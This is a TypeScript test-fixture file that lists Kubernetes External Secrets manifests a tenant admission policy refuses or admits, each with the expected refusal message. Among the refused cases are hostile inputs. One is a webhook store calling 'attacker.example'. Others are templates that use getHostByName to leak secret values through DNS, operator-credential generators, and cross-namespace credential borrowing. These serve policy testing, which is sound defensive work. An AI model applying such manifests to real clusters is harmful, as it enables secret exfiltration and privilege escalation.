import type { Manifest } from "./golden-manifests.ts";
import {
  clusterSecretStore,
  externalSecret,
  generator,
  pushSecret,
  secretStore,
  vaultProvider,
} from "./tenant-manifests.ts";

/** An ExternalSecret for a Secret that Kubernetes would put a token into. */
export const mintsTokens = externalSecret({ template: { type: "kubernetes.io/service-account-token" } });
const template = (text: string) => externalSecret({ template: { data: { key: text } } });

/** What a tenant may not have, and the words of the refusal. */
export const refused: Readonly<Record<string, readonly [Manifest, RegExp]>> = {
  "a Secret that Kubernetes puts a token into": [mintsTokens, /may not make one/],
  "a Secret that a node could join with": [
    externalSecret({ template: { type: "bootstrap.kubernetes.io/token" } }),
    /may not make one/,
  ],
  "a SecretStore that borrows another namespace's account": [
    secretStore(vaultProvider({ name: "secrets-reader", namespace: "shared" })),
    /may not use credentials of another namespace/,
  ],
  "a SecretStore that reads a ConfigMap elsewhere": [
    secretStore(
      vaultProvider(undefined, { caProvider: { type: "ConfigMap", name: "ca", key: "ca", namespace: "other" } }),
    ),
    /may not use credentials of another namespace/,
  ],
  "a provider that is not in use": [
    secretStore({ webhook: { url: "https://attacker.example/", result: {} } }),
    /not in use in the cluster: allowed are vault/,
  ],
  "a cloud that is not in use": [
    secretStore({ aws: { service: "SecretsManager", region: "eu-central-1" } }),
    /not in use in the cluster: allowed are vault/,
  ],
  "a shared store": [
    externalSecret({ store: { kind: "ClusterSecretStore", name: "tenant" } }),
    /may not read through a ClusterSecretStore/,
  ],
  "a shared store for one key": [
    externalSecret({
      data: [
        {
          secretKey: "key",
          remoteRef: { key: "tenant" },
          sourceRef: { storeRef: { kind: "ClusterSecretStore", name: "tenant" } },
        },
      ],
    }),
    /may not read through a ClusterSecretStore/,
  ],
  "a generator that asks an address": [
    externalSecret({
      dataFrom: [
        {
          sourceRef: {
            generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Webhook", name: "tenant" },
          },
        },
      ],
    }),
    /allowed are Password, UUID/,
  ],
  "a template function that asks DNS": [template('{{ getHostByName "attacker.example" }}'), /may only pipe keys/],
  "the same, piped": [template("{{ .password | getHostByName }}"), /may only pipe keys/],
  "the same, in the middle of a text": [template("a{{ .b }}c{{getHostByName .b}}"), /may only pipe keys/],
  "the same, as an argument": [template("{{ .a | default (getHostByName .b) }}"), /may only pipe keys/],
  "the same, after a brace": [template("{{{ getHostByName .b }}"), /may only pipe keys/],
  "a template that runs through keys": [template("{{ range . }}{{ . }}{{ end }}"), /may only pipe keys/],
  "the same function in an annotation": [
    externalSecret({ template: { metadata: { annotations: { a: "{{ getHostByName .b }}" } } } }),
    /may only pipe keys/,
  ],
  "the same function in a literal": [
    externalSecret({ template: { templateFrom: [{ literal: "a: {{ getHostByName .b }}" }] } }),
    /may only pipe keys/,
  ],
  "the same function in the names of keys": [
    externalSecret({
      dataFrom: [
        { extract: { key: "tenant" }, rewrite: [{ transform: { template: "{{ .value | getHostByName }}" } }] },
      ],
    }),
    /may only pipe keys/,
  ],
  "a template in a ConfigMap": [
    externalSecret({ template: { templateFrom: [{ configMap: { name: "t", items: [{ key: "t" }] } }] } }),
    /may not lie in a ConfigMap/,
  ],
  "a generator that logs in to Vault as the operator": [
    generator("VaultDynamicSecret", {
      path: "database/creds/tenant",
      provider: {
        server: "https://vault.tenant.example",
        auth: { kubernetes: { mountPath: "kubernetes", role: "tenant" } },
      },
    }),
    /allowed are Password, UUID/,
  ],
  "a generator that logs in to AWS as the operator": [
    generator("ECRAuthorizationToken", { region: "eu-central-1" }),
    /allowed are Password, UUID/,
  ],
  "what is remembered of such a generator": [
    generator("GeneratorState", { resource: generator("ECRAuthorizationToken"), state: {} }),
    /allowed are Password, UUID/,
  ],
  "a PushSecret through a shared store": [
    pushSecret({ store: { kind: "ClusterSecretStore", name: "tenant" } }),
    /may not write through a ClusterSecretStore/,
  ],
  "a PushSecret of what a generator asks for": [
    pushSecret({
      selector: {
        generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Webhook", name: "tenant" },
      },
    }),
    /allowed are Password, UUID/,
  ],
  "a PushSecret with a template": [
    pushSecret({ template: { data: { key: "{{ .key }}" } } }),
    /may have neither a template nor dataTo/,
  ],
  "a store that every namespace may use": [clusterSecretStore(), /must say who may use it/],
  "a store with an empty list of users": [clusterSecretStore([]), /must say who may use it/],
  "a store for namespaces by a pattern": [
    clusterSecretStore([{ namespaces: ["a"] }, { namespaceRegexes: [".*"] }]),
    /must say who may use it/,
  ],
  "a store for namespaces with any labels": [
    clusterSecretStore([{ namespaceSelector: {} }]),
    /must say who may use it/,
  ],
};

/** What a tenant may have. */
export const admitted: Readonly<Record<string, Manifest>> = {
  "a SecretStore of a namespace's own": secretStore(vaultProvider()),
  "an ExternalSecret without a template": externalSecret({}),
  "a template of keys and text functions": template(
    '{"user": "{{ .user }}", "p": {{ .password | b64dec | toJson }}}\n',
  ),
  "a Secret of type TLS": externalSecret({
    template: {
      type: "kubernetes.io/tls",
      data: { "tls.crt": '{{- .crt | replace "a" "b" -}}', "tls.key": "{{.key}}" },
    },
  }),
  "renamed keys": externalSecret({
    dataFrom: [{ extract: { key: "tenant" }, rewrite: [{ transform: { template: "{{ .value | upper }}" } }] }],
  }),
  "a generator that makes its value up": generator("UUID"),
  "what is remembered of it": generator("GeneratorState", { resource: generator("UUID"), state: {} }),
  "a PushSecret of a Secret of its own": pushSecret({}),
  "a PushSecret of what it makes up": pushSecret({
    selector: {
      generatorRef: { apiVersion: "generators.external-secrets.io/v1alpha1", kind: "Password", name: "tenant" },
    },
  }),
  "a store for listed namespaces": clusterSecretStore([{ namespaces: ["a"] }]),
  "a store for namespaces by their labels": clusterSecretStore([{ namespaceSelector: { matchLabels: { team: "a" } } }]),
};
